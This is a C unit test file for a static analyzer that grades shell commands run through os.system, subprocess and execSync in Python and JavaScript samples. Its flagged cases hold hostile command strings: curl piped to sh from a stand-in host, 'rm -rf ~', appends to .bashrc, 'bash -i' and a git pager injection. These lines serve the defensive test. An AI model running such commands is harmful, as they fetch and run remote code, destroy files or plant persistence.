/*
 * A shell command given as a string (os.system, shell=True, execSync,
 * exec`...`) is `warn` only when every value it may take is known and is
 * a line of ordinary tools with every word visible (git status, ls -la |
 * head -5, make -j2 2>/dev/null): what a list of the same words would run.
 * Anything a shell adds (expansion, substitution, redirection, another
 * program after ; | &&), an address, a value that is not known or a name
 * that may hold another value stays `high`.
 */
#include <criterion/criterion.h>
#include <string.h>

#include "common/util.h"
#include "policy/analyze.h"

static struct analyzer *A;

static void setup(void)
{
	err_t err;
	cr_assert_eq(analyzer_new(NULL, &A, &err), 0, "%s", err.msg);
}

static void teardown(void)
{
	analyzer_free(A);
}

TestSuite(check_shell_lines, .init = setup, .fini = teardown);

#define PY "import os, subprocess, sys\n"
#define JS "const { exec, execSync } = require('child_process');\n"

static const struct {
	const char *lang, *what, *code;
	bool high;
} cases[] = {
    /* ordinary lines */
    {"python", "os.system of git status", PY "os.system('git status')\n", false},
    {"python", "a pipe and && of ordinary tools",
     PY "os.system('ls -la | head -5 && git log --oneline -3 2>/dev/null')\n", false},
    {"python", "shell=True with make", PY "subprocess.run('make -j2', shell=True, check=True)\n",
     false},
    {"python", "a constant named once", PY "CMD = 'git status --porcelain'\nos.popen(CMD).read()\n",
     false},
    {"python", "single-quoted words", PY "os.system(\"git commit -m 'a message; not code'\")\n",
     false},
    {"python", "a helper called with ordinary lines",
     PY "def sh(cmd):\n    os.system(cmd)\nsh('git status')\nsh('make -j2')\n", false},
    {"python", "a shell=True helper, one call with a keyword",
     PY "def run(cmd, check=True):\n    return subprocess.run(cmd, shell=True, check=check)\n"
	"run('ls -la')\nrun('pytest -q', check=False)\n",
     false},
    {"javascript", "execSync of git", JS "execSync('git status --porcelain').toString();\n", false},
    {"javascript", "exec with a callback",
     JS "exec('npm test 2>&1', (e, out) => console.log(out));\n", false},
    {"javascript", "a helper called with ordinary lines",
     JS "function sh(c) { return execSync(c).toString(); }\nsh('git status');\nsh('ls -la');\n",
     false},

    /* what a shell adds, or a value not known */
    {"python", "a download piped to a shell", PY "os.system('curl -s http://x.example/p | sh')\n",
     true},
    {"python", "another program after ;", PY "os.system('ls; rm -rf ~')\n", true},
    {"python", "an expansion", PY "os.system('ls $HOME')\n", true},
    {"python", "a substitution", PY "os.system('echo $(id)')\n", true},
    {"python", "backquotes", PY "os.system('echo `id`')\n", true},
    {"python", "a redirection into a file", PY "os.system('echo x >> ~/.bashrc')\n", true},
    {"python", "an address", PY "os.system('python3 -m pip install git+https://x.example/y')\n",
     true},
    {"python", "git with a pager command", PY "os.system('git -c core.pager=sh log')\n", true},
    {"python", "an argument read at run time", PY "os.system('ls ' + sys.argv[1])\n", true},
    {"python", "a name bound again", PY "c = 'ls'\nc = 'sh'\nos.system(c)\n", true},
    {"python", "a name bound again in a branch",
     PY "c = 'ls'\nif len(sys.argv) > 1:\n    c = 'sh'\nos.system(c)\n", true},
    {"python", "a name a function rebinds",
     PY "c = 'ls'\ndef f():\n    global c\n    c = 'sh'\nf()\nos.system(c)\n", true},
    {"python", "shell=True with a shell", PY "subprocess.run('bash -i', shell=True)\n", true},
    {"python", "a helper also called with a shell",
     PY "def sh(cmd):\n    os.system(cmd)\nsh('git status')\nsh('bash -i')\n", true},
    {"python", "a helper also called with a run-time value",
     PY "def sh(cmd):\n    os.system(cmd)\nsh('git status')\nsh(sys.argv[1])\n", true},
    {"python", "a helper's second line with a pager command",
     PY "def sh(cmd):\n    os.system(cmd)\nsh('git status')\nsh('git -c core.pager=sh log')\n",
     true},
    {"python", "a helper also handed on as a value",
     PY "def sh(cmd):\n    os.system(cmd)\nsh('git status')\nhooks = [sh]\n", true},
    {"python", "a helper also reached through globals()",
     PY "def sh(cmd):\n    os.system(cmd)\nsh('git status')\nglobals()['sh']('id')\n", true},
    {"python", "a helper whose default is a shell",
     PY "def sh(cmd='bash -i'):\n    os.system(cmd)\nsh('git status')\nsh()\n", true},
    {"python", "a helper nobody calls", PY "def sh(cmd):\n    os.system(cmd)\n", true},
    {"javascript", "a download piped to a shell",
     JS "execSync('curl -s http://x.example/p | sh');\n", true},
    {"javascript", "another program after &&", JS "execSync('ls -la && rm -rf ~');\n", true},
    {"javascript", "a template with a value", JS "execSync(`ls ${process.argv[2]}`);\n", true},
    {"javascript", "a name bound again", JS "let c = 'ls';\nc = 'sh';\nexecSync(c);\n", true},
    {"javascript", "a helper also called with a shell",
     JS "function sh(c) { return execSync(c).toString(); }\nsh('git status');\nsh('bash -i');\n",
     true},
};

Test(check_shell_lines, each_case_reaches_high_or_not)
{
	int failures = 0;
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		struct findings f;
		err_t err;
		cr_assert_eq(
		    analyze(A, cases[i].lang, cases[i].code, strlen(cases[i].code), &f, &err), 0,
		    "%s", err.msg);
		bool high = findings_reach(&f, SEV_HIGH);
		if (high != cases[i].high) {
			cr_log_error("[%s: %s] %s high", cases[i].lang, cases[i].what,
				     high ? "reaches" : "does not reach");
			for (size_t k = 0; k < f.n; k++)
				cr_log_info("  %u:%u %s %s", f.v[k].line, f.v[k].column,
					    f.v[k].rule, severity_name(f.v[k].severity));
			failures++;
		}
		findings_free(&f);
	}
	cr_expect_eq(failures, 0, "%d of %zu cases (above)", failures, ARRAY_SIZE(cases));
}
